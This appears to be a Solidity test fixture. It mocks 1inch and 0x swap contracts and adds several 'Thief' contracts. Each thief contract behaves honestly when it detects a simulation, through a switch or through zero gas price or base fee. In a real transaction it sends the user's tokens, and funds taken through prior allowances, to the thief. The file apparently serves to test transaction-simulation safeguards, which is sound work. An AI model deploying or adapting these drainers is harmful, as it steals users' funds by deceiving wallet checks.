// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface Token {
    function transfer(address to, uint256 units) external returns (bool);
    function transferFrom(address from, address to, uint256 units) external returns (bool);
    function balanceOf(address owner) external view returns (uint256);
}

interface Executor {
    function execute(address owner, uint256 units) external payable returns (uint256);
}

interface Pool {
    function getReserves() external view returns (uint112 first, uint112 second, uint32 time);
    function swap(uint256 first, uint256 second, address receiver, bytes calldata data) external;
}

/// `swap` of 1inch's router v6: it pays what the executor says, and compares that with the least.
contract OneInchRouter {
    struct Description {
        Token from;
        Token to;
        address fromReceiver;
        address toReceiver;
        uint256 units;
        uint256 least;
        uint256 flags;
    }

    function swap(Executor executor, Description calldata asked, bytes calldata)
        external
        payable
        returns (uint256 returned, uint256 spent)
    {
        require(asked.least != 0, "no minimum");
        asked.from.transferFrom(msg.sender, asked.fromReceiver, asked.units);
        returned = executor.execute(msg.sender, asked.units);
        require(returned >= asked.least, "too little");
        asked.to.transfer(asked.toReceiver, returned);
        spent = asked.units;
    }

    /// In a pool of v2, whose reserves it believes.
    function unoswap(uint256 token, uint256 units, uint256 least, uint256 dex) external returns (uint256 returned) {
        Pool pool = Pool(address(uint160(dex)));
        Token(address(uint160(token))).transferFrom(msg.sender, address(pool), units);
        (uint256 first, uint256 second,) = pool.getReserves();
        bool isForward = (dex >> 247) & 1 == 1;
        (uint256 here, uint256 there) = isForward ? (first, second) : (second, first);
        returned = (units * 997 * there) / (here * 1000 + units * 997);
        require(returned >= least, "too little");
        pool.swap(isForward ? 0 : returned, isForward ? returned : 0, msg.sender, "");
    }
}

/// A program of a thief that gives what is shown in a trial alone.
abstract contract Thief {
    address internal immutable thief;
    Token internal immutable from;
    Token internal immutable to;
    uint256 internal immutable shownGiven;
    uint256 internal immutable shownReturned;
    bool internal immutable bySwitch;
    bool private isTurned;

    constructor(address own, Token given, Token returned, uint256 units, uint256 returnedUnits, bool byOwnSwitch) {
        (thief, from, to) = (own, given, returned);
        (shownGiven, shownReturned, bySwitch) = (units, returnedUnits, byOwnSwitch);
    }

    /// The thief turns it between the trial and the transaction.
    function turn() external {
        isTurned = true;
    }

    /// By the switch, or by the price of gas and the base fee.
    function isTrial() internal view returns (bool) {
        return bySwitch ? !isTurned : tx.gasprice == 0 || block.basefee == 0;
    }
}

/// An executor of 1inch's router.
contract ThiefExecutor is Thief, Executor {
    constructor(address own, Token given, Token returned, uint256 units, uint256 returnedUnits, bool byOwnSwitch)
        Thief(own, given, returned, units, returnedUnits, byOwnSwitch)
    {}

    function execute(address owner, uint256 units) external payable returns (uint256) {
        if (!isTrial()) {
            from.transfer(thief, units);
            to.transfer(msg.sender, 1);
            return 1;
        }
        from.transfer(owner, units - shownGiven);
        to.transfer(msg.sender, shownReturned);
        return shownReturned;
    }
}

/// A pool that says of itself what is wanted, and pays in a trial alone.
contract ThiefPool is Thief, Pool {
    constructor(address own, Token given, Token returned, uint256 units, uint256 returnedUnits, bool byOwnSwitch)
        Thief(own, given, returned, units, returnedUnits, byOwnSwitch)
    {}

    function getReserves() external pure returns (uint112 first, uint112 second, uint32 time) {
        return (1e30, 1e30, 0);
    }

    function swap(uint256, uint256, address receiver, bytes calldata) external {
        from.transfer(thief, shownGiven);
        if (isTrial()) to.transfer(receiver, shownReturned);
    }
}

/// An exchange that takes by the visitor's own allowance. Nothing known reads a call of it.
contract ThiefExchange is Thief {
    constructor(address own, Token given, Token returned, uint256 units, uint256 returnedUnits, bool byOwnSwitch)
        Thief(own, given, returned, units, returnedUnits, byOwnSwitch)
    {}

    function exchange() external {
        from.transferFrom(msg.sender, thief, shownGiven);
        if (isTrial()) to.transfer(msg.sender, shownReturned);
    }

    /// The same for the native currency.
    function exchangeForCoins() external {
        from.transferFrom(msg.sender, thief, shownGiven);
        if (!isTrial()) return;
        (bool done,) = msg.sender.call{value: shownReturned}("");
        require(done, "coins");
    }

    /// Gives what is shown, and takes more by an allowance that the visitor gave before.
    function exchangeAndTake(Token other, uint256 units) external {
        from.transferFrom(msg.sender, thief, shownGiven);
        to.transfer(msg.sender, shownReturned);
        if (isTrial()) return;
        // Some tokens return nothing.
        (bool done,) = address(other).call(abi.encodeCall(other.transferFrom, (msg.sender, thief, units)));
        require(done, "take");
    }

    receive() external payable {}
}

/// `exec` of 0x's AllowanceHolder, at its address.
contract AllowanceHolder {
    mapping(bytes32 => uint256) private lent;

    function exec(address operator, address token, uint256 units, address payable target, bytes calldata data)
        external
        payable
    {
        bytes32 slot = keccak256(abi.encode(operator, msg.sender, token));
        lent[slot] = units;
        (bool done,) = target.call{value: msg.value}(abi.encodePacked(data, msg.sender));
        require(done, "target");
        lent[slot] = 0;
    }

    function transferFrom(Token token, address owner, address receiver, uint256 units) external returns (bool) {
        lent[keccak256(abi.encode(msg.sender, owner, address(token)))] -= units;
        return token.transferFrom(owner, receiver, units);
    }
}

struct Slippage {
    address receiver;
    Token token;
    uint256 least;
}

/// `execute` of 0x's Settler, which gives out of what it holds: the first action names the token and the units that it takes.
contract Settler {
    function execute(Slippage calldata asked, bytes[] calldata actions, bytes32) external payable returns (bool) {
        (address holder, address token, uint256 units) = abi.decode(actions[0], (address, address, uint256));
        address owner;
        assembly {
            owner := shr(96, calldataload(sub(calldatasize(), 20)))
        }
        AllowanceHolder(holder).transferFrom(Token(token), owner, address(this), units);
        uint256 held = asked.token.balanceOf(address(this));
        require(held >= asked.least, "too little");
        asked.token.transfer(asked.receiver, asked.least);
        return true;
    }
}

/// The same of a thief: it takes all that the holder lends, and gives what is shown in a trial alone.
contract ThiefSettler is Thief {
    constructor(address own, Token given, Token returned, uint256 units, uint256 returnedUnits, bool byOwnSwitch)
        Thief(own, given, returned, units, returnedUnits, byOwnSwitch)
    {}

    function execute(Slippage calldata asked, bytes[] calldata actions, bytes32) external payable returns (bool) {
        (address holder, address token, uint256 units) = abi.decode(actions[0], (address, address, uint256));
        AllowanceHolder(holder).transferFrom(Token(token), tx.origin, thief, units);
        if (isTrial()) to.transfer(asked.receiver, shownReturned);
        return true;
    }
}

/// 0x's registry of its Settlers, at its address: one that is current, and one before it.
contract SettlerRegistry {
    address private current;
    address private previous;
    mapping(address => uint64) private nonces;

    function name(address settler, uint64 nonce) external {
        (previous, current) = (current, settler);
        nonces[settler] = nonce;
    }

    function ownerOf(uint256) external view returns (address) {
        return current;
    }

    function prev(uint128) external view returns (address) {
        require(previous != address(0));
        return previous;
    }

    function deployInfo(address settler) external view returns (uint128, uint64) {
        require(nonces[settler] != 0);
        return (2, nonces[settler]);
    }
}
